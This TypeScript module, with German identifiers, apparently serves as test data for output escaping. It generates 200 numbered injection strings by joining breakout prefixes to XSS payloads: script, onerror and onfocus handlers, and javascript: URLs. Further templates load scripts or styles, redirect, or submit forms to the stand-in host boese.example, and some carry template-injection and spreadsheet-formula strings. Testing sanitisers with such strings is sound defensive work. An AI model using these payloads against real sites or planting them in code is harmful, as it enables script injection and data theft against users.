/** Ends whatever a text may stand in: an element, an attribute, a script, a comment. */
const ausbrueche = ['', '">', "'>", '</textarea>', '</title></head>', '</script>', '-->', '</option></select>']

/** What would run, load or lead elsewhere if a text were taken for markup, a formula, a header or a template. */
const wirkungen: ((nr: number) => string)[] = [
  (nr) => `<script>alert(${nr})</script>`,
  (nr) => `<img src=x onerror=alert(${nr})>`,
  (nr) => `<svg onload=alert(${nr})>`,
  (nr) => `<svg><script>alert(${nr})</script></svg>`,
  (nr) => `<body onload=alert(${nr})>`,
  (nr) => `<iframe src="javascript:alert(${nr})"></iframe>`,
  (nr) => `<iframe srcdoc="<script>parent.alert(${nr})</script>"></iframe>`,
  (nr) => `<a href="javascript:alert(${nr})" autofocus onfocus=alert(${nr})>Weiter</a>`,
  (nr) => `<details open ontoggle=alert(${nr})>`,
  (nr) => `<input autofocus onfocus=alert(${nr})>`,
  (nr) => `<video><source onerror=alert(${nr})></video>`,
  (nr) => `<math><mtext><table><mglyph><style><img src=x onerror=alert(${nr})></style></mglyph></table></mtext></math>`,
  (nr) => `<object data="data:text/html,<script>alert(${nr})</script>"></object>`,
  (nr) => `<embed src="javascript:alert(${nr})">`,
  (nr) => `<meta http-equiv="refresh" content="0;url=https://boese.example/${nr}">`,
  (nr) => `<base href="https://boese.example/${nr}/">`,
  (nr) => `<link rel="stylesheet" href="https://boese.example/${nr}.css">`,
  (nr) => `<style>@import "https://boese.example/${nr}.css";*{display:none}</style>`,
  (nr) => `<form action="https://boese.example/${nr}"><button autofocus>Weiter</button></form>`,
  (nr) => `<img src="https://boese.example/${nr}.png">`,
  (nr) => `" onmouseover="alert(${nr})" autofocus onfocus="alert(${nr})" style="position:fixed;inset:0" x="`,
  (nr) => `&lt;script&gt;alert(${nr})&lt;/script&gt;&#60;img src=x onerror=alert(${nr})&#62;`,
  (nr) => `<script src="https://boese.example/${nr}.js"></script>`,
  (nr) =>
    `{{constructor.constructor('alert(${nr})')()}}\${alert(${nr})}<%= alert(${nr}) %>#eval("${nr}") $ @include_${nr}`,
  (nr) => `=HYPERLINK("https://boese.example/${nr}";"Klick")[Klick](javascript:alert(${nr})){"level":60,"nr":${nr}}`,
]

/** 200 texts, each with a number of its own, in one line each. */
export const schaedliche: readonly string[] = wirkungen.flatMap((wirkung, i) =>
  ausbrueche.map((ausbruch, j) => ausbruch + wirkung(i * ausbrueche.length + j + 1)),
)

/** The same ones, so many together that a handful of texts holds all of them. */
export const gebuendelt: readonly string[] = Array.from({ length: 8 }, (_, i) =>
  schaedliche.filter((_, nr) => nr % 8 === i).join(' '),
)
